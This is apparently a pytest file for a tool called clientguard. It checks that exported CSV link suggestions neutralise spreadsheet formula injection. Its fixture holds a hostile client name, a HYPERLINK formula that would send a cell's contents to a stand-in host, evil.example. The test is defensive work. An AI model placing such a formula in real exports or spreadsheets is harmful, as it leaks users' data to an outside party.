"""`clientguard links suggest` writes a CSV a person opens in a spreadsheet to check the pairs:
a customer named as a formula is text there, and the file still reads back as a links file."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest

from clientguard.cli import EXIT_OK, main
from clientguard.links import read_links

pytest.importorskip("clientguard_csv", reason="the CSV connector is not installed")

#: A client name that a spreadsheet would run: a link that sends the next cell away.
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Acme")'


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@pytest.fixture
def two_sources(csv_books: Callable[..., Path]) -> Path:
    """Two sources (the old invoicing tool and the new) that both bill the hostile name."""
    folder = csv_books(paid=False)
    header = "Number,Client,Issued,Due,Total\n"
    (folder / "new.csv").write_text(header + f"N-1,{quoted(HOSTILE)},2025-01-02,2025-02-01,10\n")
    (folder / "old.csv").write_text(header + f"O-1,{quoted(HOSTILE)},2024-01-02,2024-02-01,10\n")
    sources = "".join(
        f'[sources.{name}]\nconnector = "csv"\nmapping = "mapping.toml"\n'
        f'invoices = ["{name}.csv"]\n'
        for name in ("new", "old")
    )
    (folder / "clientguard.toml").write_text(
        f'base_currency = "EUR"\nstore = "data/clientguard.db"\n{sources}')
    return folder


def test_links_suggest_writes_no_cell_a_spreadsheet_would_run(
    two_sources: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["sync", "--quiet"]) == EXIT_OK
    capsys.readouterr()
    assert main(["links", "suggest"]) == EXIT_OK
    out = capsys.readouterr().out
    header, *rows = list(csv.reader(io.StringIO(out)))
    assert header == ["customer", "same_as", "matched_on", "names"]
    (row,) = rows
    # The names are the client's, shown as text: the apostrophe a spreadsheet hides.
    assert row[3] == f"'{HOSTILE} = {HOSTILE}"
    for cell in row:
        assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell
    # Checked and kept, the file is a links file that names both customers.
    (two_sources / "links.csv").write_text(out)
    ((first, second),) = read_links(two_sources / "links.csv")
    assert {first[0], second[0]} == {"new", "old"}
    assert first[1] == second[1] == row[0].split(":", 1)[1]
